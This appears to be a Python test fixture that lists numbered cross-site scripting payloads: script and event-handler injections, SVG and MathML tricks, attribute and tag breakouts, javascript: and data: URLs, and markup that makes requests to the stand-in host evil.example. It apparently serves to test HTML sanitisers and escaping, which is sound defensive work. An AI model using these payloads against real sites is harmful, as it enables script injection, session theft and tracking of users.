"""Texts that become code where somebody forgets what they are. `{n}` is the number by which one is recognised.

Each calls `__pwned`, opens a dialog, or asks EVIL for something. None is longer than a name may be.
"""

EVIL = "evil.example"

_ELEMENTS = [
    "<script>__pwned({n})</script>",
    "<img src=x onerror=__pwned({n})>",
    "<IMG SRC=x ONERROR='__pwned({n})'>",
    "<img/src='x'/onerror=__pwned({n})>",
    "<img src=x onerror=&#95;&#x5f;pwned({n})>",
    "<img src=x onerror=alert({n})>",
    "<svg onload=__pwned({n})>",
    "<svg><script>__pwned({n})</script></svg>",
    "<svg><animate onbegin=__pwned({n}) attributeName=x dur=1s></svg>",
    "<svg><set onbegin=__pwned({n}) attributeName=x></svg>",
    "<math><mtext><img src=x onerror=__pwned({n})></mtext></math>",
    "<iframe srcdoc='<script>__pwned({n})</script>'></iframe>",
    "<iframe src=javascript:__pwned({n})></iframe>",
    "<details open ontoggle=__pwned({n})>x</details>",
    "<video><source onerror=__pwned({n})></video>",
    "<input autofocus onfocus=__pwned({n})>",
    "<a href=javascript:__pwned({n}) tabindex=0 autofocus onfocus=this.click()>x</a>",
    "<<script>__pwned({n})//<</script>",
    "<scr<script>ipt>__pwned({n})</scr</script>ipt>",
    "<b>bold</b><script>prompt({n})</script>",
    "\u202e<img src=x onerror=__pwned({n})>\u202c",
    "\uff1cimg src=x onerror=__pwned({n})\uff1e",
]
_REQUESTS = [
    "<img src=//evil.example/{n}>",
    "<img srcset='//evil.example/{n} 1x'>",
    "<picture><source srcset=//evil.example/{n}><img></picture>",
    "<link rel=stylesheet href=//evil.example/{n}>",
    "<style>@import '//evil.example/{n}';</style>",
    "<div style='background:url(//evil.example/{n})'>x</div>",
    "<table background=//evil.example/{n}><td>x</table>",
    "<audio src=//evil.example/{n} autoplay></audio>",
    "<embed src=//evil.example/{n}>",
    "<iframe src=//evil.example/{n}></iframe>",
    "<base href=//evil.example/><img src={n}>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{n}'>",
    "<form id=f action=//evil.example/{n}></form><img src=x onerror=f.submit()>",
]
_BREAKING_OUT = [
    '" autofocus onfocus=__pwned({n}) x="',
    "' autofocus onfocus=__pwned({n}) x='",
    "x autofocus onfocus=__pwned({n})",
    '"><img src=x onerror=__pwned({n})>',
    "'><svg onload=__pwned({n})>",
    "--><script>__pwned({n})</script>",
    "</title><script>__pwned({n})</script>",
    "</textarea><script>__pwned({n})</script>",
    "</script><script>__pwned({n})</script>",
    "</ScRiPt ><sCrIpT>__pwned({n})</sCrIpT>",
    "</style><script>__pwned({n})</script>",
    "</noscript><img src=x onerror=__pwned({n})>",
    "</template><img src=x onerror=__pwned({n})>",
]
_IN_SCRIPTS = [
    '";__pwned({n});//',
    "';__pwned({n});//",
    '\\";__pwned({n});//',
    '"-__pwned({n})-"',
    "${{__pwned({n})}}",
    "\u2028__pwned({n})",
    "{{{{__pwned({n})}}}}",
]
_ADDRESSES = [
    "javascript:__pwned({n})",
    "JaVaScRiPt:__pwned({n})",
    "java\tscript:__pwned({n})",
    " javascript:__pwned({n})",
    "javascript://%0a__pwned({n})",
    "data:text/html,<script>__pwned({n})</script>",
    'https://evil.example/"autofocus/onfocus="__pwned({n})',
    "[x](javascript:__pwned({n}))",
    "//evil.example/{n}",
]
PAYLOADS = [
    text.format(n=number) for number, text in enumerate([*_ELEMENTS, *_REQUESTS, *_BREAKING_OUT, *_IN_SCRIPTS, *_ADDRESSES])
]
